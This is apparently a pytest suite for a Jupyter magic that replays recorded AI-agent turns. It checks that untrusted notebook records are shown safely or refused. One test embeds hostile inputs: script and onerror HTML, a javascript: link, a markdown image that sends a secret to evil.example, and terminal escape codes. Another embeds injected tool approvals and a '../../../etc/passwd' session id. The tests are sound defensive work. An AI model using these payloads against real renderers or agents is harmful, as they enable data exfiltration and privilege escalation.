"""A notebook that somebody sent: its turn records are data, whatever stands in them."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from IPython.core.interactiveshell import InteractiveShell

from a3s_magics.record import MIME, VERSION
from tests.magics.conftest import bundles
from tests.model_server import ModelServer, says

GOOD: dict[str, Any] = {
    "version": VERSION,
    "prompt": "hi",
    "text": "Hello.",
    "model": "openai/m",
    "session_id": "s",
    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    "cost_usd": 0.1,
    "elapsed_s": 1.0,
    "cancelled": False,
    "error": None,
    "events": [
        {"type": "start", "prompt": "hi"},
        {"type": "text_delta", "text": "Hello."},
        {"type": "end", "text": "Hello.", "total_tokens": 2, "usage": {}, "cancelled": False},
    ],
}


def save(folder: Path, *records: object) -> None:
    """A notebook with these records in its only cell's outputs."""
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {MIME: record}}
        for record in records
    ]
    cell = {"cell_type": "code", "source": "%%a3s\nhi", "metadata": {}, "outputs": outputs}
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
    (folder / "sent.ipynb").write_text(json.dumps(notebook), "utf-8")


@pytest.fixture
def replaying(
    loaded: InteractiveShell, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> InteractiveShell:
    """A shell that shows recorded turns again."""
    monkeypatch.setenv("A3S_REPLAY", "1")
    monkeypatch.setenv("A3S_DATA_DIR", str(tmp_path / "data"))
    return loaded


def ending(shell: InteractiveShell, capsys: pytest.CaptureFixture[str]) -> str:
    """How a cell with the prompt ended: "" or the name of its error, which must be one line."""
    capsys.readouterr()
    result = shell.run_cell("%%a3s\nhi")
    error = result.error_in_exec
    if error is None:
        return ""
    printed = capsys.readouterr()
    assert (printed.out + printed.err).strip().count("\n") == 0
    return type(error).__name__


def test_a_good_record_is_shown(
    replaying: InteractiveShell, workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save(workspace, GOOD)
    assert ending(replaying, capsys) == ""
    assert "Hello." in bundles(replaying)[-1]["text/plain"]


ORDERLY = ("", "UsageError", "TurnCancelled", "ExecutionError")
STRANGE: list[Any] = [None, True, -1, 1e999, "x", "\ud800", [], [1], [[]], {}, {"type": 3}, [{}]]
DEEP: Any = []
for _ in range(500):
    DEEP = [DEEP]


@pytest.mark.parametrize("field", sorted(GOOD))
def test_a_field_of_any_form_is_shown_or_refused(
    replaying: InteractiveShell,
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    field: str,
    model_server: ModelServer,
) -> None:
    """Never a traceback of ours, never a request to a model, and the kernel goes on."""
    for value in [*STRANGE, DEEP, [{"type": "end", "text": DEEP}]]:
        save(workspace, {**GOOD, field: value})
        assert ending(replaying, capsys) in ORDERLY, value
        replaying.run_cell("%a3s reset")
    assert model_server.requests == []
    assert replaying.run_cell("6 * 7").result == 42


@pytest.mark.parametrize(
    "event",
    [
        {"type": "tool_start", "tool_id": [], "tool_name": {}, "args": "x"},
        {"type": "tool_end", "tool_id": "c", "tool_name": "bash", "exit_code": "no", "args": [1]},
        {"type": "confirmation_required", "tool_id": "c", "tool_name": "bash", "args": None},
        {"type": "text_delta", "text": {"a": 1}},
        {"type": "retrying", "delay_ms": "soon"},
        {"type": "end", "usage": [1], "total_tokens": "many"},
        {"type": "error", "error": None, "error_type": 3},
        {"type": "no such event", "x": 1},
        {"type": "model_preparing", "received_bytes": "x", "total_bytes": []},
        {"type": "subagent_start", "task_id": 1},
    ],
)
def test_an_event_of_any_form_is_shown_or_refused(
    replaying: InteractiveShell,
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    event: dict[str, Any],
) -> None:
    save(workspace, {**GOOD, "events": [GOOD["events"][0], event, *GOOD["events"][1:]]})
    assert ending(replaying, capsys) in ORDERLY


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[" * 200_000, b"\xff\xfe", b"null", b'{"cells": [1, {"outputs": 3}]}'],
)
def test_a_file_that_is_no_notebook_has_no_turns(
    replaying: InteractiveShell,
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    content: bytes,
) -> None:
    (workspace / "sent.ipynb").write_bytes(content)
    assert ending(replaying, capsys) == "UsageError"


def test_a_huge_record_is_shown(
    replaying: InteractiveShell, workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """20,000 events and 5 MB of text."""
    piece = "word " * 50
    deltas = [{"type": "text_delta", "text": piece}] * 20_000
    text = piece * 20_000
    end = {**GOOD["events"][-1], "text": text}
    save(workspace, {**GOOD, "text": text, "events": [GOOD["events"][0], *deltas, end]})
    assert ending(replaying, capsys) == ""


HOSTILE = (
    '<img src=x onerror="document.title=1"><script>1</script> [a](javascript:alert(1)) '
    "![pixel](https://evil.example/p.png?d=secret) \x1b[2J\x1b]0;title\x07"
)


def test_what_is_shown_of_it_is_harmless_and_nothing_runs(
    replaying: InteractiveShell, workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Markup is escaped, images are not loaded, and a recorded call is drawn, not made."""
    call = {"tool_id": "c", "tool_name": "bash", "args": {"command": f"touch ran; {HOSTILE}"}}
    events = [
        {"type": "start", "prompt": "hi"},
        {"type": "text_delta", "text": HOSTILE},
        {"type": "tool_start", **call},
        {"type": "confirmation_required", **call},
        {"type": "confirmation_received", "tool_id": "c", "approved": True},
        {"type": "tool_end", **call, "tool_output": HOSTILE, "exit_code": 0},
        {**GOOD["events"][-1], "text": HOSTILE},
    ]
    save(workspace, {**GOOD, "text": HOSTILE, "model": "openai/m", "events": events})
    assert ending(replaying, capsys) == ""
    shown = bundles(replaying)[-1]
    for form in ("text/markdown", "text/plain"):
        assert "\x1b" not in shown[form]
    # In a fence everything is code, and in a summary, which is HTML, Markdown is plain text.
    inert = r"```.*?```|<summary>.*?</summary>"
    markdown = re.sub(inert, "", shown["text/markdown"], flags=re.DOTALL)
    assert "img src" in markdown  # it is there, escaped
    assert "<script" not in markdown
    assert "<img" not in markdown
    assert "](javascript:" not in markdown
    assert "![pixel](" not in markdown
    assert not (workspace / "ran").exists()


def test_a_record_says_nothing_about_permissions(
    loaded: InteractiveShell,
    workspace: Path,
    model_server: ModelServer,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    """Without replay, the records of the opened notebook change nothing about the next turn."""
    monkeypatch.setenv("A3S_DATA_DIR", str(tmp_path / "data"))
    approved = {"approved_tools": ["bash", "write"], "yes": True, "permissive": True}
    save(workspace, {**GOOD, **approved, "session_id": "../../../etc/passwd"})
    monkeypatch.setenv("JPY_SESSION_NAME", str(workspace / "sent.ipynb"))
    model_server.script(
        *[says("Well.")],
    )
    assert loaded.run_cell("%%a3s\nhi").error_in_exec is None
    told = model_server.requests[0]["messages"]
    assert [m["content"] for m in told if m["role"] == "user"] == ["hi"]
    loaded.run_line_magic("a3s", "status")
    saved = list((tmp_path / "data" / "sessions").glob("*.json"))
    assert [file.name.startswith("notebook-") for file in saved] == [True]
